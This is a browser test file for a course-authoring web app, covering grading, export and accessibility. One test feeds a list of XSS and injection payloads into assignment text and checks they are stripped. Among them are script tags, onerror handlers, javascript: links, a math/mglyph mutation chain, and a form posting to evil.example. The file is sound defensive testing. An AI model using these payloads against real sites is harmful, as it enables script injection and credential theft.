// The course components in a browser, under the page's content security policy: an author writes an assignment, a
// student opens its link, fails, fixes, exports; hostile files do nothing. The components stand alone here
// (web/src/course/harness).
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createReadStream, existsSync, statSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import test, { after, before } from 'node:test';
import { pathToFileURL } from 'node:url';
import { encodeLink } from '../../wasm/course/index.mjs';
import { grade, put, read, root, scratch, small } from './support.mjs';

const web = path.join(root, 'web');
const resolve = createRequire(path.join(web, 'package.json')).resolve;
const { chromium } = createRequire(path.join(web, 'package.json'))('playwright-core');
const site = path.join(scratch, 'site');
const types = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.wasm': 'application/wasm',
};
let server, browser, origin;

before(async () => {
  const { build } = await import(
    pathToFileURL(path.join(path.dirname(resolve('vite/package.json')), 'dist/node/index.js')).href
  );
  const folder = path.join(web, 'src/course/harness');
  await build({
    root: folder,
    configFile: path.join(folder, 'vite.config.ts'),
    logLevel: 'error',
    build: { outDir: site },
  });
  server = createServer((request, response) => {
    const file = path.join(
      site,
      decodeURIComponent(new URL(request.url, 'http://x').pathname).replace(/\/$/, '/index.html'),
    );
    if (!file.startsWith(site) || !existsSync(file) || !statSync(file).isFile()) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': types[path.extname(file)] ?? 'application/octet-stream' });
    createReadStream(file).pipe(response);
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  origin = `http://127.0.0.1:${server.address().port}`;
  const executablePath = [
    process.env.CHROMIUM,
    '/usr/bin/chromium',
    '/usr/bin/chromium-browser',
    '/usr/bin/google-chrome',
  ].find((p) => p && existsSync(p));
  browser = await chromium.launch({
    executablePath,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--disable-dev-shm-usage',
    ],
  });
});
after(async () => {
  await browser?.close();
  server?.close();
});

// A page in a browser profile of its own; whatever it complains about fails the test that opened it.
async function open(fragment = '', context) {
  const own = context ?? (await browser.newContext());
  const page = await own.newPage();
  page.setDefaultTimeout(30_000);
  page.problems = [];
  page.dialogs = [];
  page.on('pageerror', (e) => page.problems.push(String(e)));
  page.on('response', (r) => {
    if (r.status() >= 400) page.problems.push(`${r.status()} ${r.url()}`);
  });
  page.on('console', (m) => {
    if (m.type() === 'error' || /Content Security|Trusted/i.test(m.text())) page.problems.push(m.text());
  });
  page.on('dialog', (d) => {
    page.dialogs.push(d.message());
    void (page.refuse ? d.dismiss() : d.accept());
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(origin) && !r.url().startsWith('data:') && !r.url().startsWith('blob:'))
      page.problems.push(`foreign request ${r.url()}`);
  });
  await page.goto(`${origin}/index.html${fragment ? `#${fragment}` : ''}`);
  return page;
}
const quiet = (page) => assert.deepEqual(page.problems, []);
const link = async (document) => encodeLink('assignment', JSON.stringify(document));
const given = (task, more) => {
  const a = small({ reference: undefined, ...task }, more);
  return JSON.parse(JSON.stringify(a));
};
const status = (page, text) => page.locator('.course-cases [role=status]', { hasText: text }).waitFor();

test('an author writes, a student opens the link, fails, fixes, exports; the command line grades what was exported', async () => {
  const author = await open();
  const set = async (label, text) => author.getByLabel(label, { exact: true }).fill(text);
  await set('id', 'doubling');
  await set('title', 'Doubling');
  await set('task title', 'Twice the index');
  await set('task statement', 'Define `twice`: $2 i$ at position $i$.');
  await set('asks for the name', 'twice');
  await set('starter', 'twice = indices;\n');
  await set('reference solution', 'twice = 3 * indices;\n');
  await set('visible cases', 'abc -> [0, 2, 4]');
  await set('hidden cases', 'abcabc -> [0, 2, 4, 6, 8, 10]');
  await author.getByRole('button', { name: 'Check', exact: true }).click();
  await author.getByText('Not ready yet.').waitFor();
  assert.match(await author.locator('.course-verdict').innerText(), /fails 2 of 2 cases/);
  await set('reference solution', 'twice = 2 * indices;\n');
  await author.getByRole('button', { name: 'Check', exact: true }).click();
  await author.getByText('Every reference solution passes everything').waitFor();
  await author.getByRole('button', { name: 'Link for students' }).click();
  const url = await author.getByLabel('students’ link').inputValue();
  await author.getByRole('button', { name: 'Save', exact: true }).click();
  const saved = await author.evaluate(() => window.saved);
  assert.equal(saved.name, 'doubling.instructor.json');
  await author.getByRole('button', { name: 'Preview as a student' }).click();
  await author.getByRole('heading', { name: 'Twice the index' }).waitFor();
  await author.getByRole('button', { name: 'End the preview' }).click();
  await author.getByRole('heading', { name: 'Write an assignment' }).waitFor();
  quiet(author);
  await author.context().close();

  const student = await open(url.split('#')[1]);
  await student.getByRole('heading', { name: 'Doubling' }).waitFor();
  await student.locator('.course-text math').first().waitFor();
  await status(student, '0 of 1 pass');
  const row = student.locator('.course-cases tr.fail').first();
  assert.match(await row.innerText(), /abc/);
  assert.equal(await row.locator('.differs').count(), 4); // 2 and 4 expected, 1 and 2 got
  await student.getByLabel('editor').fill('twice = indices + indices;\n');
  await status(student, '1 of 1 pass');
  await student.getByRole('button', { name: 'Check everything' }).click();
  await student.getByText('10 of 10 points', { exact: true }).waitFor();
  assert.match(await student.locator('.course-verdict').innerText(), /Hidden cases: 1 of 1 pass/);
  await student.getByLabel('name', { exact: true }).fill('Ada');
  await student.getByLabel('student number').fill('42');
  await student.getByRole('button', { name: 'Export submission' }).click();
  const exported = await student.evaluate(() => window.saved);
  assert.deepEqual(JSON.parse(exported.text).programs, { 'task-1': 'twice = indices + indices;\n' });
  assert.equal(exported.name, 'doubling-42.json');
  await student.getByRole('button', { name: 'Make a link' }).click();
  const submitted = await student.getByLabel('submission link').inputValue();
  // A reload loses nothing.
  await student.reload();
  await status(student, '1 of 1 pass');
  assert.match(await student.getByLabel('editor').inputValue(), /indices \+ indices/);
  assert.equal(await student.getByLabel('name', { exact: true }).inputValue(), 'Ada');
  quiet(student);
  const other = await open(submitted.split('#')[1]);
  await other.getByText('twice = indices + indices').waitFor();
  await student.context().close();
  await other.context().close();

  const r = grade(put('page/doubling.json', saved.text), [put(`page/in/${exported.name}`, exported.text)]);
  assert.deepEqual([r.book[0].name, r.book[0].id, r.book[0].total, r.book[0].notes], ['Ada', '42', '10', '']);
});

test('the first s-op that differs, gauges, rules, locked lines, hints', async () => {
  const page = await open('ready=first-steps');
  const task = async (n) => page.getByRole('list', { name: 'Tasks' }).getByRole('button').nth(n).click();
  const editor = page.getByLabel('editor');
  await page.getByRole('heading', { name: 'Count from one' }).waitFor();
  await task(4);
  await page.getByText('The first s-op that differs is').first().waitFor();
  assert.match(await page.locator('.why').first().innerText(), /opposite.*\[3, 2, 1\].*instead of.*\[2, 1, 0\]/s);
  await page.waitForFunction(() => document.querySelector('[data-locked]').dataset.locked === '[[4,5]]');
  assert.deepEqual(JSON.parse(await page.locator('[data-settings]').getAttribute('data-settings')), {
    vocabulary: ['a', 'b', 'c'],
    maxLength: 8,
    causal: false,
    input: ['a', 'b', 'c'],
    output: 'flipped',
  });
  await editor.fill('flipped = tokens;');
  await page.getByText('Lines 4 to 5 of the starter are locked').waitFor();
  await task(3);
  await editor.fill('first = tokens[0];');
  await page.getByText('Only select and aggregate').waitFor();
  await page.locator('.course-rules .fail').first().waitFor();
  assert.equal(await page.locator('.course-gauge meter').count(), 2);
  // Going back finds the program of the other task again.
  await task(4);
  assert.equal(await editor.inputValue(), 'flipped = tokens;');
  await page.getByText('A hint opens after 1 more program').waitFor();
  await page.getByRole('button', { name: 'Check everything' }).click();
  await page.getByText('Hint 1').waitFor();
  await page.getByText('0 of 20 points', { exact: true }).waitFor();
  // A broken program says where.
  await task(0);
  await editor.fill('positions = indices +;');
  await page.locator('.course-cases .bad').first().waitFor();
  await page.locator('.course-cases .bad button').first().click();
  assert.equal(await page.title(), 'line 1');
  quiet(page);
  await page.context().close();
});

test('two students on one browser do not see each other’s work', async () => {
  const context = await browser.newContext(),
    page = await open('ready=first-steps', context);
  const name = page.getByLabel('name', { exact: true }),
    editor = page.getByLabel('editor');
  const call = async (who) => {
    await name.fill(who);
    await name.press('Tab');
    await page.waitForTimeout(300);
  }; // no one types faster than the page renders
  await status(page, 'pass');
  await call('Ada');
  await editor.fill('positions = indices + 1;');
  await status(page, '2 of 2 pass');
  page.refuse = true;
  await call('Bob');
  await page.waitForFunction(() => !document.querySelector('textarea').value.includes('+ 1'));
  await call('Ada');
  await page.waitForFunction(() => document.querySelector('textarea').value.includes('+ 1'));
  assert.equal(page.dialogs.length, 1);
  // A slip of the pen: the work goes along.
  page.refuse = false;
  await call('Ada L.');
  await page.waitForFunction(() =>
    JSON.parse(
      localStorage.getItem(Object.keys(localStorage).find((k) => k.endsWith(':Ada L.')) ?? '') ?? '{"programs":{}}',
    ).programs.positions?.includes('+ 1'),
  );
  quiet(page);
  await context.close();
});

test('statements cannot run, fetch or imitate anything', async () => {
  const hostile = [
    '<script>window.bad = 1</script>',
    '<img src=x onerror="window.bad=1">',
    '<img src="https://tracker.example/x.png">',
    '[x](javascript:window.bad=1)',
    '<a href="data:text/html,x">x</a>',
    '<iframe src="https://example.org"></iframe>',
    '<svg onload="window.bad=1"><a href="javascript:window.bad=1">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.bad=1">',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<div style="position:fixed" id="app" class="course" onclick="window.bad=1">x</div>',
    '<style>*{display:none}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<object data=x></object><embed src=x>',
    '<video src=https://evil.example></video>',
    '$\\href{javascript:window.bad=1}{x}$',
    '![x](javascript:window.bad=1)',
    '<a href="//evil.example" target=_top>x</a>',
    '<dialog open>x</dialog>',
    '$\\style{color:red}{y}$',
    '$\\undefinedcommand{$',
    '*'.repeat(1000),
    '['.repeat(1000),
  ].join('\n\n');
  const good =
    'A `code` and *more*: [link](https://example.org).\n\n| a | b |\n|---|---|\n| 1 | $\\frac{k}{m}$ |\n\n$$\nx^2\n$$\n\nIt costs $5 and $6.\n\n* item\n\n```\nx = 1;\n```\n';
  const page = await open(
    await link(given({ statement: hostile, hints: [{ text: hostile, after: 0 }] }, { statement: good })),
  );
  await page.locator('.course-text math mfrac').waitFor();
  const found = await page.evaluate(() => {
    const bad = [],
      tags = 'script, iframe, svg, form, input, button, style, meta, base, object, embed, video, dialog';
    const texts = document.querySelectorAll('.course-text');
    for (const text of texts) {
      for (const e of text.querySelectorAll(tags)) bad.push(e.outerHTML);
      for (const e of text.querySelectorAll('*')) {
        for (const { name, value } of e.attributes) {
          if (name.startsWith('on') || ['style', 'id', 'name', 'class'].includes(name)) bad.push(e.outerHTML);
          if (name === 'src' && !/^data:image\//.test(value)) bad.push(e.outerHTML);
          if (name === 'href' && !/^(https?:|mailto:|#)/.test(value)) bad.push(e.outerHTML);
        }
      }
    }
    const first = texts[0],
      a = first.querySelector('a');
    return {
      bad,
      ran: window.bad,
      count: texts.length,
      tags: ['code', 'em', 'table', 'ul', 'pre', 'math'].filter((t) => !first.querySelector(t)),
      maths: first.querySelectorAll('math').length,
      link: [a.getAttribute('href'), a.target, a.rel],
    };
  });
  assert.deepEqual(found.bad, []);
  assert.equal(found.ran, undefined);
  assert.equal(found.count, 3);
  assert.deepEqual(found.tags, []);
  assert.equal(found.maths, 2, 'prices are no formulas');
  assert.deepEqual(found.link, ['https://example.org', '_blank', 'noopener noreferrer']);
  assert.deepEqual(page.dialogs, []);
  // Parsed in an inert document, inline handlers are reported as blocked before they are removed; nothing else may be
  // reported.
  assert.deepEqual(
    page.problems.filter((p) => !/violates the following Content Security Policy.*has been blocked/s.test(p)),
    [],
  );
  await page.context().close();
});

test('broken, hostile and endless: a message with a position, and the page goes on', async () => {
  const broken = await open(await link({ ...given(), tasks: [{ ...given().tasks[0], points: -1 }] }));
  await broken.getByText('This assignment cannot be opened').waitFor();
  assert.match(
    await broken.locator('.course-problems').innerText(),
    /Line 1, column \d+: tasks\[1\]\.points must be more than 0/,
  );
  quiet(broken);
  await broken.context().close();
  const damaged = await open(`${(await link(given())).slice(0, -20)}`);
  await damaged.getByText('The link is damaged').waitFor();
  await damaged.context().close();
  const page = await open(await link(given()));
  await status(page, '0 of 1 pass');
  const editor = page.getByLabel('editor');
  await editor.fill(`${'for a in range(0, 1000) { '.repeat(4)}x = 1; ${'}'.repeat(4)}\nx = indices;`);
  await page.locator('.course-cases .bad').first().waitFor();
  await editor.fill('def f(n) { return f(n + 1); }\nx = f(0);');
  await page.getByText('200 levels').first().waitFor();
  await editor.fill('x = indices + 1;');
  await status(page, '1 of 1 pass');
  quiet(page);
  await page.context().close();
});

test('a hidden output is neither in the link nor anywhere in the page', async () => {
  const page = await open('ready=first-steps');
  await status(page, 'pass');
  const kept = await page.evaluate(() => document.documentElement.outerHTML + JSON.stringify(localStorage));
  assert.ok(!kept.replace(/\s/g, '').includes('[1,2,3,4,5,6]'));
  assert.ok(read('examples/assignments/instructor/first-steps.json').replace(/\s/g, '').includes('[1,2,3,4,5,6]'));
  await page.context().close();
});

test('no accessibility violations, also on a phone and in the dark', async () => {
  const axe = createRequire(path.join(web, 'package.json'))('@axe-core/playwright').default;
  for (const [fragment, theme, viewport] of [
    ['ready=brackets-and-budgets', 'light', { width: 1200, height: 900 }],
    ['ready=brackets-and-budgets', 'dark', { width: 390, height: 800 }],
    ['', 'light', { width: 390, height: 800 }],
  ]) {
    const page = await open(fragment, await browser.newContext({ viewport }));
    await page.evaluate((t) => {
      document.documentElement.dataset.theme = t;
    }, theme);
    if (fragment) await status(page, 'pass');
    else await page.getByRole('heading', { name: 'Write an assignment' }).waitFor();
    // With everything that a check adds: verdict, failing rules, differing values.
    await page.getByRole('button', { name: /^Check/ }).click();
    await page.locator('.course-verdict').waitFor();
    const { violations } = await new axe({ page }).include('.course').analyze();
    assert.deepEqual(
      violations.map(
        (v) =>
          `${v.id}: ${v.nodes
            .map((n) => n.html)
            .join(' ')
            .slice(0, 300)}`,
      ),
      [],
    );
    assert.ok(
      await page.evaluate(() => {
        const c = document.querySelector('.course');
        return c.scrollWidth <= document.documentElement.clientWidth + 1;
      }),
      `${fragment} fits ${viewport.width}`,
    );
    await page.context().close();
  }
});
